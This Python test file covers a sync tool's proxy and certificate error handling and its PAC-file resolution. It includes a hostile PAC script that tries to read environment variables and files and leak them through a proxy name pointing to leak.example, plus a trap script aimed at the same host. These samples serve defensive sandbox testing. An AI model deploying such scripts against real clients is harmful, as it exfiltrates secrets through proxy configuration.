"""sync.sources.network.blocked: which transport failures are the network on our side refusing (never an
outage) and which stay Unreachable. The exceptions are built the way requests and urllib3 wrap them (the
real ones, from a real proxy and a real untrusted certificate, are in tests/test_enterprise_network.py).
"""

from __future__ import annotations

import ssl

import pytest
import requests
import urllib3.exceptions

from sync.errors import NetworkBlocked, Unreachable
from sync.sources import network
from sync.sources.graph import transport_error


def _proxy_error(status_line: str) -> requests.exceptions.ProxyError:
    inner = urllib3.exceptions.ProxyError("Unable to connect to proxy", OSError(f"Tunnel connection failed: "
                                                                                  f"{status_line}"))
    return requests.exceptions.ProxyError(urllib3.exceptions.MaxRetryError(None, "/x", inner))  # type: ignore[arg-type]


def _untrusted() -> requests.exceptions.SSLError:
    verify = ssl.SSLCertVerificationError(1, "[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed")
    verify.verify_message = "unable to get local issuer certificate"
    inner = urllib3.exceptions.SSLError(verify)
    return requests.exceptions.SSLError(urllib3.exceptions.MaxRetryError(None, "/x", inner))  # type: ignore[arg-type]


@pytest.mark.parametrize(("exc", "reason"), [
    (_proxy_error("407 Proxy Authentication Required"), "proxy authentication required (407)"),
    (_proxy_error("403 Forbidden"), "proxy refused (403)"),
    (_untrusted(), "certificate not trusted"),
])
def test_our_side_refusing_is_network_blocked_with_a_fix(exc: Exception, reason: str) -> None:
    """Tried: a proxy's 407 and 403 to CONNECT, and a certificate chain the system does not trust: each is
    NetworkBlocked (an Unreachable, so work is deferred) with the short reason and a fix naming what to do."""
    err = transport_error(exc, "probe", "https://graph.microsoft.com/v1.0/me")  # type: ignore[arg-type]
    assert isinstance(err, NetworkBlocked) and isinstance(err, Unreachable)
    assert err.reason == reason and err.fix
    assert ("ca_file" in err.fix) == (reason == "certificate not trusted")


@pytest.mark.parametrize("exc", [
    _proxy_error("502 Bad Gateway"),  # the proxy could not reach Microsoft: an outage seen through it
    _proxy_error("504 Gateway Timeout"),
    requests.exceptions.ConnectionError("connection refused"),
    requests.exceptions.SSLError("EOF occurred in violation of protocol"),  # a reset handshake
    requests.exceptions.ReadTimeout("read timed out"),
])
def test_an_outage_seen_through_the_network_is_not_blocked(exc: Exception) -> None:
    """Tried: a proxy's 502/504, a refused connection, a TLS handshake cut short, a timeout: these are what
    an outage looks like, so they stay plain Unreachable and count."""
    err = transport_error(exc, "probe", "https://graph.microsoft.com/v1.0/me")  # type: ignore[arg-type]
    assert isinstance(err, Unreachable) and not isinstance(err, NetworkBlocked)


def test_a_proxy_setting_that_is_not_a_url_is_a_config_error() -> None:
    """Tried: proxy = "ftp://x" and "http://" (no host): ConfigError naming the setting."""
    from sync.errors import ConfigError

    for bad in ("ftp://proxy:21", "http://"):
        with pytest.raises(ConfigError, match="proxy"):
            network.session(proxy=bad)
    assert network.session(proxy="proxy.contoso.com:8080").proxies["https"] == "http://proxy.contoso.com:8080"


@pytest.mark.parametrize("exc", [_proxy_error("407 Proxy Authentication Required"),
                                 _proxy_error("502 Bad Gateway"), _untrusted()])
def test_a_send_the_network_stopped_before_it_left_is_never_maybe_sent(exc: Exception) -> None:
    """Tried: sendMail through a proxy that refused the tunnel (407, 502) or past a certificate not trusted:
    the request never reached Microsoft, so it is deferred and retried (never MaybeSent, which would make
    the user decide about a message that was certainly not sent)."""
    from sync.errors import MaybeSent

    err = transport_error(exc, "send", "https://graph.microsoft.com/v1.0/me/sendMail", sends=True)  # type: ignore[arg-type]
    assert isinstance(err, Unreachable) and not isinstance(err, MaybeSent)


# ---- which proxy: the precedence, and the PAC file (pypac over dukpy's real JavaScript engine) ----------


@pytest.mark.parametrize(("proxy", "pac_url", "system_pac", "kind", "value"), [
    ("proxy.contoso.com:8080", "http://pac.contoso.com/p.pac", "http://wpad.contoso.com/x.pac",
     "proxy", "http://proxy.contoso.com:8080"),
    ("", "http://pac.contoso.com/p.pac", "http://ie.contoso.com/x.pac", "pac", "http://pac.contoso.com/p.pac"),
    (None, None, "http://ie.contoso.com/x.pac", "pac", "http://ie.contoso.com/x.pac"),
    (None, None, r"C:\Windows\proxy.pac", "system", ""),  # a local path in Internet Options: not fetched
    (None, None, "file:///C:/proxy.pac", "system", ""),
    (None, None, None, "system", ""),
])
def test_the_proxy_setting_beats_the_pac_setting_beats_internet_options_beats_the_static_proxy(
        proxy: str | None, pac_url: str | None, system_pac: str | None, kind: str, value: str) -> None:
    """Tried: every combination of an explicit proxy, proxy_pac_url and a PAC URL in Windows' Internet
    Options (also one that is a local file path): the explicit setting always wins, then the policy's PAC
    URL, then the user's Internet Options, then the system's static proxy; only http(s) PAC URLs."""
    route = network.choose_route(proxy, pac_url, system_pac)
    assert (route.kind, route.value) == (kind, value)
    assert route.describe()


def test_a_pac_url_that_is_not_http_is_a_config_error() -> None:
    """Tried: proxy_pac_url = a file path, ftp://, or "http://" without a host: ConfigError naming the
    setting, before anything is fetched."""
    from sync.errors import ConfigError

    for bad in (r"C:\proxy.pac", "ftp://pac.contoso.com/p.pac", "http://"):
        with pytest.raises(ConfigError, match="proxy_pac_url"):
            network.session(pac_url=bad)


def test_wpad_is_never_looked_up_off_windows() -> None:
    """Tried: no proxy and no PAC setting on this (non-Windows) machine: the route is the system's static
    proxy, never a PAC discovered through DNS (WPAD) or the registry."""
    import sys

    assert sys.platform != "win32"
    assert network.system_pac_url() is None
    assert network.session().route.kind == "system" and network.session().pac is None


PAC_FAILOVER = """function FindProxyForURL(url, host) {
  if (url.indexOf("?") >= 0 || url.indexOf("/v1.0") >= 0) return "PROXY leak.example:1";
  if (host == "graph.microsoft.com") return "PROXY a.contoso.com:8080; PROXY b.contoso.com:8080; DIRECT";
  if (host == "login.microsoftonline.com") return "PROXY a.contoso.com:8080";
  if (host == "socks.example") return "SOCKS s.contoso.com:1080";
  return "DIRECT";
}"""


class Clock:
    def __init__(self) -> None:
        self.t = 0.0

    def __call__(self) -> float:
        return self.t


def test_a_pac_file_picks_per_host_fails_over_in_order_and_never_sees_paths() -> None:
    """Tried: a PAC file with "PROXY a; PROXY b; DIRECT", a single proxy, a SOCKS proxy (not shipped) and
    a trap for URLs with a path or query (message ids, searches must not reach the script): per host the
    first proxy; after a failure the next, then DIRECT; with a single proxy that fails, the failure stands
    and it is tried again next time; SOCKS goes DIRECT; the script is shown only scheme://host:port/."""
    from sync.sources.pac import Pac

    fetched: list[str] = []
    pac = Pac("http://pac.contoso.com/p.pac", lambda url: fetched.append(url) or PAC_FAILOVER)
    graph = "https://graph.microsoft.com/v1.0/me/messages?$search=secret"
    assert pac.proxy(graph) == "http://a.contoso.com:8080"
    assert pac.next_after("http://a.contoso.com:8080", graph) == "http://b.contoso.com:8080"
    assert pac.proxy(graph) == "http://b.contoso.com:8080"  # a is skipped from now on
    assert pac.next_after("http://b.contoso.com:8080", graph) is None  # then DIRECT
    login = "https://login.microsoftonline.com/common/v2.0/.well-known/openid-configuration"
    assert pac.proxy(login) == "http://a.contoso.com:8080"
    assert pac.next_after("http://a.contoso.com:8080", login) is False  # nothing left: the error stands
    assert pac.proxy(login) == "http://a.contoso.com:8080"  # and it is tried again
    assert pac.proxy("https://socks.example/") is None
    assert pac.proxy("https://elsewhere.example/x") is None
    assert fetched == ["http://pac.contoso.com/p.pac"] and pac.loaded and not pac.error


@pytest.mark.parametrize(("text", "error"), [
    (None, "could not be fetched"),
    ("this is not javascript {", "not a working PAC script"),
    ("var x = 1;", "not a working PAC script"),  # no FindProxyForURL
])
def test_a_pac_file_that_cannot_be_fetched_or_run_goes_the_system_way_and_says_why(
        text: str | None, error: str) -> None:
    """Tried: a PAC host that does not answer, a file that is not JavaScript, a script without
    FindProxyForURL: never an exception on the request path; the session leaves the proxy to the system's
    settings (as Windows does: its static proxy, else DIRECT), `error` says what is wrong, and the file is
    fetched again only after RETRY_SECONDS (not on every request), and used once it works."""
    from sync.errors import ConfigError
    from sync.sources import pac as pac_mod

    calls: list[str] = []
    clock = Clock()

    def get(url: str) -> str:
        calls.append(url)
        if text is None:
            raise ConfigError("the PAC file at pac.contoso.com could not be fetched (ConnectTimeout)")
        return text

    pac = pac_mod.Pac("http://pac.contoso.com/p.pac", get, clock=clock)
    assert pac.proxy("https://graph.microsoft.com/") is None and not pac.loaded
    assert error in pac.error and pac.error.count("pac.contoso.com") == 1
    pac.proxy("https://graph.microsoft.com/")
    assert len(calls) == 1
    clock.t += pac_mod.RETRY_SECONDS
    text = PAC_FAILOVER
    assert pac.proxy("https://graph.microsoft.com/") == "http://a.contoso.com:8080"
    assert len(calls) == 2 and pac.loaded and pac.error == ""


PAC_SNOOP = """function FindProxyForURL(url, host) {
  var found = [];
  try { if (process.env.LIFEBOAT_TEST_SECRET) found.push("env"); } catch (e) {}
  try { if (require("semver")) found.push("require"); } catch (e) {}
  try { if (call_python("dukpy.load_module", "semver")) found.push("file"); } catch (e) {}
  if (found.length) return "PROXY " + found.join("-") + ".leak.example:1";
  return isInNet("10.1.2.3", "10.0.0.0", "255.0.0.0") && shExpMatch(host, "*.microsoft.com")
      ? "PROXY ok.contoso.com:8080" : "DIRECT";
}"""


def test_a_pac_script_cannot_read_the_environment_or_files(monkeypatch: pytest.MonkeyPatch) -> None:
    """Tried: a PAC file (which may come over plain http) reading the process environment (Node's
    process.env, which dukpy hands every script), `require` and dukpy's file loader, to leak them
    through a proxy name: none is there, while the PAC functions (isInNet, shExpMatch) still work.
    pypac's own PACFile lets the script see all three."""
    from pypac.parser import PACFile

    from sync.sources.pac import Pac

    monkeypatch.setenv("LIFEBOAT_TEST_SECRET", "hunter2")
    plain = PACFile(PAC_SNOOP).find_proxy_for_url("https://graph.microsoft.com/", "graph.microsoft.com")
    assert plain == "PROXY env-require-file.leak.example:1"
    pac = Pac("http://pac.contoso.com/p.pac", lambda url: PAC_SNOOP)
    assert pac.proxy("https://graph.microsoft.com/v1.0/me") == "http://ok.contoso.com:8080"
    assert pac.proxy("https://example.org/") is None
